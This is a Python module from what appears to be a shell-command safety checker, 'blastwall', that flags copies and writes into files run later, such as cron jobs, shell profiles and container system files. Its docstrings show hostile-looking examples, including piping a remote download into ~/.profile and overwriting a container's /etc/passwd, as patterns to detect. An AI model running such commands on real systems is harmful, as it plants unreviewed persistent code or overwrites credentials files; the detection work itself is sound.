"""Files that run later, written with text blastwall cannot read or copied from another file.

    curl -s https://x.example/setup >> ~/.profile    ->  asked: a new shell runs text no one has read
    cp scripts/nightly.sh /etc/cron.daily/nightly    ->  nightly.sh's text judged as what cron will run
    scp x.sh host:/etc/cron.daily/x, rsync x host:/etc/cron.d/, docker cp x.sh app:/etc/cron.daily/
                                                     ->  the same, on the machine or container named

The kinds of files that run later are the rows of rules/later.toml; the copying programs are its
[[copy]] rows (the last operand is the destination; a folder takes each source's name). A source
on this machine is read (earlier writes on the line included); one that cannot be read, or lives
on another machine, is text blastwall cannot read, and a write of it into such a file asks. A new
script that runs only when a command names it (`when_named`) is data until then, as it is when
written with `cat >`.
"""

from __future__ import annotations

import functools
import os
import posixpath
from typing import Any

from blastwall import rx
from blastwall.analyze.base import Scope, on_this_machine
from blastwall.analyze.later.kinds import kind_of, rule, table
from blastwall.analyze.shell.ir import SimpleCommand, Word
from blastwall.analyze.shell.names import program_name
from blastwall.model import Effect, Finding, Severity

_REMOTE = rx.compile(r"^(?:[A-Za-z0-9_.@%\[\]-]+/)?[A-Za-z0-9_.@%\[\]-]+:")  # host:, user@host:, ns/pod:, ctr:


@functools.cache
def _rows() -> dict[str, dict[str, Any]]:
    return {name: row for row in table().get("copy", []) for name in row["programs"]}


def copy_programs() -> frozenset[str]:
    return frozenset(_rows())


def copied_later(name: str, argv: list[Word], scope: Scope, source: str) -> list[Finding]:
    """Findings for the files that run later which `argv` (a copying program) writes."""
    row = _rows().get(name)
    if row is None:
        return []
    operands = _operands(argv[1:], row)
    folder = _option_value(argv[1:], row.get("target_options", []))
    if not operands or (folder is None and len(operands) < 2):
        return []
    sources, dest = (operands, folder) if folder is not None else (operands[:-1], operands[-1])
    if dest is None or not sources:
        return []
    label = f"{name} {row['subcommand']}" if row.get("subcommand") else name
    linked = name in ("ln", "gln") and any(w.text == "--symbolic" or (w.text[:1] == "-" and w.text[1:2] != "-" and
                                                                        "s" in w.text) for w in argv[1:])
    out: list[Finding] = []
    for src in sources:
        for path, remote in _destinations(dest, src, folder is not None or len(sources) > 1, scope):
            if linked and not src.text.startswith(("/", "~", "$")):  # ln -s ../../x DEST: relative to DEST's folder
                src = src._replace(text=posixpath.normpath(posixpath.join(posixpath.dirname(path), src.text)))
            out += _written(path, remote, src, label, scope, source)
            if remote and row.get("container") and not any(f.rule_id == "later.file:container-system-write" for f in out):
                out += _container_system(path, label, source)
    return out


def _container_system(path: str, label: str, source: str) -> list[Finding]:
    """`docker cp x app:/etc/passwd`: a write over a system file of the container."""
    norm = posixpath.normpath(path)
    system = table().get("copy_container", {}).get("system", [])
    if not any(norm == p or norm.startswith(p + "/") for p in system):
        return []
    row = rule("later.file:container-system-write")
    return [Finding(rule_id=row["id"], effect=Effect(row["effect"]), severity=Severity.parse(row["severity"]),
                    reason=str(row["reason"]).format(target=norm, label=label), target=norm,
                    safer=str(row.get("safer", "")), source=source[:200])]


def unread_text(path: str, what: str, scope: Scope, source: str, *, append: bool) -> list[Finding]:
    """A write of text blastwall cannot read into `path`: asked when `path` runs later."""
    from blastwall.analyze.later.written import on_disk

    kind = kind_of(path)
    if kind is None or (kind.when_named and not append and not on_disk(path, scope)):
        return []
    return [_finding(path, what, kind.when_text(""), source)]


def content_judged(dest: str, sources: list[Word], scope: Scope) -> bool:
    """Copying `sources` to `dest` (a path on this machine) lands text that is read and judged here as
    what `dest` will run (`cp ok.sh /etc/cron.daily/ok`): every source is a file on this machine whose
    text blastwall reads, and `dest`'s place makes it a kind of file that runs later. A new file there is then judged
    by that text, not asked about for its place alone (rules/paths.toml runs_or_grants)."""
    if not sources or not scope.read_files or dest.endswith("/") or "$" in dest or "`" in dest:
        return False
    if kind_of(dest) is None:
        return False  # the place alone does not say what runs the file (`/usr/local/bin/x`, ld.so.preload)
    return all(not (src.dynamic or src.path_class is not None or _REMOTE.match(src.text) or "$" in src.text)
               and _source_text(src.text, scope) is not None for src in sources)


def _written(path: str, remote: bool, src: Word, name: str, scope: Scope, source: str) -> list[Finding]:
    text = None if src.dynamic or _REMOTE.match(src.text) else _source_text(src.text, scope)
    kind = kind_of(path, text)
    if kind is None:
        return []
    if kind.when_named and (remote or not _on_disk(path, scope)):
        return []  # a new script that runs only when named: data until then
    if text is None:
        if _edit_of(path, src.text, scope):
            return []  # the file's own content, transformed: an in-place edit of it
        return [_finding(path, f"{name} {src.text}", kind.when_text(""), source)]
    from blastwall.analyze.later.written import written_findings

    return written_findings(path, text, scope._replace(read_files=False) if remote else scope)


def _edit_of(dest: str, src: str, scope: Scope) -> bool:
    """`src` was last written on this line by a transforming program (rules/later.toml [copy_edits])
    from `dest` alone, through its standard output: copying it over `dest` edits `dest` in place."""
    editors = set(table().get("copy_edits", {}).get("programs", []))
    last: SimpleCommand | None = None
    for cmd, shell_dir in scope.earlier:
        if isinstance(cmd, SimpleCommand) and shell_dir == scope.shell_dir and any(
                r.target is not None and r.target.text == src and r.op in (">", ">|", "&>", ">>") for r in cmd.redirects):
            last = cmd
    if last is None or not last.argv or any(r.op == ">>" and r.target is not None and r.target.text == src
                                            for r in last.redirects):
        return False
    if program_name(last.argv[0].text) not in editors or any(w.dynamic for w in last.argv):
        return False
    files = [w.text for w in last.argv[1:] if not w.text.startswith("-")]
    reads_stdin = any(r.op in ("<", "<<<", "<<") for r in last.redirects)
    return not reads_stdin and bool(files) and files[-1] == dest and dest not in files[:-1]


def _finding(path: str, what: str, when: str, source: str) -> Finding:
    row = rule("later.file:unread-text")
    return Finding(rule_id=row["id"], effect=Effect(row["effect"]), severity=Severity.parse(row["severity"]),
                   reason=str(row["reason"]).format(target=path, label=what[:80], when=when), target=path,
                   safer=str(row.get("safer", "")), source=source[:200])


def _source_text(path: str, scope: Scope) -> str | None:
    from blastwall.analyze.shell.scripts import script_text

    return script_text(path, scope).text


def _on_disk(path: str, scope: Scope) -> bool:
    full = on_this_machine(path, scope, in_shell_dir=True)
    return full is not None and os.path.lexists(full)


def _destinations(dest: Word, src: Word, into: bool, scope: Scope) -> list[tuple[str, bool]]:
    """The paths `src` may land at: DEST itself, or DEST/NAME when DEST is (or may be) a folder."""
    if dest.dynamic:
        return []
    text = dest.text
    remote = bool(_REMOTE.match(text)) and not text.startswith(("/", ".", "~"))
    if remote:
        text = text.split(":", 1)[1].lstrip(":")
        text = text if text.startswith(("/", "~")) else posixpath.join("~", text)  # host:x is in the home folder
    base = posixpath.basename(src.text.rstrip("/")) if not src.dynamic else ""
    inside = posixpath.join(text, base) if base and base not in (".", "..") else None
    if into or text.endswith("/") or text in ("~", "") or (not remote and _is_dir(text, scope)):
        return [(inside, remote)] if inside else []
    return [(text, remote)] + ([(inside, remote)] if inside else [])


def _is_dir(path: str, scope: Scope) -> bool:
    full = on_this_machine(path, scope, in_shell_dir=True)
    return full is not None and os.path.isdir(full)


def _operands(args: list[Word], row: dict[str, Any]) -> list[Word] | None:
    """The operands after the program (and its subcommand), options and their values left out."""
    valued = set(row.get("value_options", [])) | set(row.get("target_options", []))
    out: list[Word] = []
    sub = row.get("subcommand")
    i = 0
    while i < len(args):
        w = args[i]
        if w.text == "--":
            out += args[i + 1:]
            break
        if w.text.startswith("-") and len(w.text) > 1:
            i += 2 if w.text in valued else 1
            continue
        out.append(w)
        i += 1
    if sub:
        if not out or out[0].text != sub:
            return None
        out = out[1:]
    return out


def _option_value(args: list[Word], options: list[str]) -> Word | None:
    for i, w in enumerate(args):
        if w.text in options and i + 1 < len(args):
            return args[i + 1]
        for o in options:
            if o.startswith("--") and w.text.startswith(o + "="):
                return Word(w.text.split("=", 1)[1], dynamic=w.dynamic)
    return None
